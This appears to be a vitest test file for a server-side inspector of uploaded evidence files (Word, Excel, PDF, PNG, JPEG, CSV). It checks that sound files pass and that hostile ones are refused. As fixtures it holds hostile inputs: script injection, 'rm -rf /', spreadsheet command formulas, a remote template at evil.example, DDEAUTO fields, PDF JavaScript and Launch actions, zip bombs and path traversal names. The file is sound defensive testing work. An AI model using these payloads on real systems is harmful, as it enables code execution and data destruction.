/** Files of evidence, sound and hostile. */
import { crc32, deflateSync } from 'node:zlib'
import { Document, Packer, Paragraph } from 'docx'
import { describe, expect, it } from 'vitest'
import { inspectEvidence } from '#app/filings/inspect-evidence.server.ts'
import { writeZip, type ZipMember } from '../support/zip-archive.ts'
import { sheetOf } from '../support/workbook.ts'

const bytes = (text: string) => Buffer.from(text)
const look = (name: string, content: Uint8Array) => inspectEvidence(name, content).then(({ kind }) => kind, (error: unknown) => (error as { code: string }).code)

function pngOf(width: number, height: number, more = Buffer.alloc(0)): Buffer {
  const part = (name: string, data: Buffer): Buffer => {
    const head = Buffer.alloc(4)
    head.writeUInt32BE(data.length)
    const body = Buffer.concat([Buffer.from(name, 'latin1'), data])
    const sum = Buffer.alloc(4)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([head, body, sum])
  }
  const size = Buffer.alloc(13)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  size[8] = 8
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), part('IHDR', size), part('IDAT', deflateSync(Buffer.alloc(2))), more.length > 0 ? part('tEXt', more) : more, part('IEND', Buffer.alloc(0))])
}

/** Start, a frame of 8 × 8, a scan, end. */
const jpeg = Buffer.from('ffd8ffc0000b080008000801011100ffda0008010100003f0000ffd9', 'hex')
const pdfOf = (body: string) => Buffer.from(`%PDF-1.4\n${body}\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n`, 'latin1')
const pdf = pdfOf('1 0 obj << /Type /Catalog /OpenAction [2 0 R /Fit] >> endobj')
const packedPdf = (hidden: string) => {
  const packed = deflateSync(Buffer.from(hidden))
  return Buffer.concat([Buffer.from(`%PDF-1.5\n3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`, 'latin1'), packed, Buffer.from('\nendstream endobj\nstartxref\n9\n%%EOF', 'latin1')])
}
const types: ZipMember = { name: '[Content_Types].xml', content: '<Types/>' }
const docxOf = (...members: ZipMember[]) => writeZip([types, { name: 'word/document.xml', content: '<w:document>材料</w:document>' }, ...members])

describe('what is taken', () => {
  it('is told by its bytes, whatever stands in it', async () => {
    const word = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('联席会议纪要 <script>alert(1)</script> 作为文字')] }] }))
    expect(await look('联席会议纪要.docx', word)).toBe('docx')
    expect(await look('清单.xlsx', sheetOf({ 1: ['稿件', '日期'], 2: ['一', '2023-05-01'] }))).toBe('xlsx')
    expect(await look('扫描件.PDF', pdf)).toBe('pdf')
    expect(await look('照片.png', pngOf(8, 8))).toBe('png')
    expect(await look('照片.jpg', jpeg)).toBe('jpeg')
    expect(await look('清单.csv', bytes('稿件,日期\n一,2023-05-01\n'))).toBe('text')
    // GB18030, as office spreadsheets write it
    expect(await look('清单.txt', Buffer.from('b8e5bcfe0d0a', 'hex'))).toBe('text')
    expect(await look('鲁双随机办[2023]3号 1.2 版.docx', docxOf())).toBe('docx')
  })
  it('has its last name alone, without what turns or hides', async () => {
    expect((await inspectEvidence('C:\\Users\\王\\清\u202e单\u0000.csv', bytes('a,b\n'))).name).toBe('清单.csv')
    expect((await inspectEvidence('../../etc/清单.txt', bytes('a\n'))).name).toBe('清单.txt')
  })
  it('may link to pages and carry the settings of a printer', async () => {
    const links = '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.cn" TargetMode="External"/></Relationships>'
    expect(await look('材料.docx', docxOf({ name: 'word/_rels/document.xml.rels', content: links }, { name: 'word/printerSettings/printerSettings1.bin', content: 'x' }))).toBe('docx')
  })
})

describe('what is refused', () => {
  const page = '<!DOCTYPE html><html><script>alert(1)</script></html>'
  it.each([
    ['a page as a page', 'x.html', bytes(page), 'evidence-markup'],
    ['a page under another name', 'x.txt', bytes(page), 'evidence-markup'],
    ['a drawing that runs', 'x.txt', bytes('<svg onload="alert(1)"/>'), 'evidence-markup'],
    ['a script of a page', 'x.csv', bytes('名称,值\n一,<ScRiPt src=//a>\n'), 'evidence-markup'],
    ['a script of the shell', 'x.txt', bytes('#!/bin/sh\nrm -rf /\n'), 'evidence-text-runs'],
    ['a command of a spreadsheet', 'x.csv', bytes("名称\n=cmd|' /C calc'!A0\n"), 'evidence-text-runs'],
    ['a question to elsewhere', 'x.csv', bytes('名称\n"=WEBSERVICE(""http://a"")"\n'), 'evidence-text-runs'],
    ['a program', 'x.pdf', Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), 'evidence-kind-unknown'],
    ['an old workbook', 'x.xls', Buffer.from('d0cf11e0a1b11ae1000000', 'hex'), 'evidence-kind-unknown'],
    ['nothing', 'x.pdf', Buffer.alloc(0), 'evidence-empty'],
    ['too much', 'x.pdf', Buffer.alloc(20 * 1024 * 1024 + 1), 'evidence-too-large'],
    ['two endings', '纪要.pdf.exe', pdf, 'evidence-name-doubled'],
    ['an ending hidden before the last', '纪要.exe.pdf', pdf, 'evidence-name-doubled'],
    ['two sound endings', '纪要.docx.pdf', pdf, 'evidence-name-doubled'],
    ['no ending', '纪要', pdf, 'evidence-name'],
    ['another ending', '纪要.pdf', pngOf(8, 8), 'evidence-kind-differs'],
    ['a picture that is a text', '照片.png', bytes('照片'), 'evidence-kind-differs'],
  ])('%s', async (_, name, content, code) => {
    expect(await look(name, content)).toBe(code)
  })

  it('an Office file that runs, holds files, fetches, lies or bursts', async () => {
    const rels = (type: string) => `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`
    const of = (...members: ZipMember[]) => look('材料.docx', docxOf(...members))
    expect(await of({ name: 'word/vbaProject.bin', content: 'x' })).toBe('evidence-archive-runs')
    expect(await of({ name: 'word/embeddings/oleObject1.bin', content: 'x' })).toBe('evidence-archive-runs')
    expect(await of({ name: 'word/afchunk.html', content: page })).toBe('evidence-archive-runs')
    expect(await of({ name: 'customXml/item1.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' })).toBe('evidence-archive-runs')
    expect(await of({ name: 'word/_rels/settings.xml.rels', content: rels('attachedTemplate') })).toBe('evidence-archive-fetches')
    expect(await of({ name: 'word/field.xml', content: '<w:instrText>DDEAUTO c:\\\\windows</w:instrText>' })).toBe('evidence-archive-fetches')
    expect(await of({ name: '../../evil.xml', content: '<a/>' })).toBe('evidence-archive-damaged')
    expect(await of({ name: 'word/big.xml', content: Buffer.alloc(8 * 1024 * 1024) })).toBe('evidence-archive-bomb')
    expect(await of({ name: 'word/big.xml', content: '<a/>', claims: { bytes: 200 * 1024 * 1024 } })).toBe('evidence-archive-bomb')
    // claims to be small and is not: no more is unpacked than it claims
    expect(await of({ name: 'word/big.xml', content: Buffer.alloc(4 * 1024 * 1024), claims: { bytes: 100 } })).toBe('evidence-archive-damaged')
    expect(await of({ name: 'word/locked.xml', content: '<a/>', claims: { isEncrypted: true } })).toBe('evidence-archive-encrypted')
    expect(await look('材料.docx', docxOf().subarray(0, 100))).toBe('evidence-archive-damaged')
    expect(await look('材料.docx', writeZip([{ name: 'a.txt', content: 'a' }]))).toBe('evidence-kind-unknown')
    expect(await look('材料.docx', sheetOf({ 1: ['一'] }))).toBe('evidence-kind-differs')
    expect(await look('材料.docx', writeZip(Array.from({ length: 2001 }, (_, index) => ({ name: `a${index}.xml`, content: '' }))))).toBe('evidence-archive-bomb')
  })

  it('a PDF that runs, in the open, under written-out letters or packed away, or can’t be looked through', async () => {
    const of = (content: Buffer) => look('材料.pdf', content)
    expect(await of(pdfOf('<< /S /JavaScript /JS (app.alert(1)) >>'))).toBe('evidence-pdf-runs')
    expect(await of(pdfOf('<< /S /#4Aava#53cript >>'))).toBe('evidence-pdf-runs')
    expect(await of(pdfOf('<< /S /Launch /F (cmd.exe) >>'))).toBe('evidence-pdf-runs')
    expect(await of(pdfOf('<< /Names << /EmbeddedFiles 4 0 R >> >>'))).toBe('evidence-pdf-runs')
    expect(await of(packedPdf('4 0 << /S /JavaScript /JS (app.alert(1)) >>'))).toBe('evidence-pdf-runs')
    expect(await of(packedPdf('4 0 << /Type /Page >>'))).toBe('pdf')
    expect(await of(pdfOf('<< /Encrypt 5 0 R >>'))).toBe('evidence-pdf-encrypted')
    expect(await of(pdf.subarray(0, pdf.length - 12))).toBe('evidence-pdf-damaged')
    expect(await of(Buffer.concat([pdf, bytes(page)]))).toBe('evidence-pdf-damaged')
  })

  it('a picture with something behind it or in its notes, too large, or cut off', async () => {
    expect(await look('照片.png', Buffer.concat([pngOf(8, 8), bytes(page)]))).toBe('evidence-image-damaged')
    expect(await look('照片.png', pngOf(8, 8, bytes(`Comment\0${page}`)))).toBe('evidence-markup')
    expect(await look('照片.png', pngOf(60_000, 60_000))).toBe('evidence-image-huge')
    expect(await look('照片.png', pngOf(8, 8).subarray(0, 30))).toBe('evidence-image-damaged')
    expect(await look('照片.jpg', Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, 2 + page.length]), bytes(page), jpeg.subarray(2)]))).toBe('evidence-markup')
    expect(await look('照片.jpg', jpeg.subarray(0, 20))).toBe('evidence-image-damaged')
  })
})
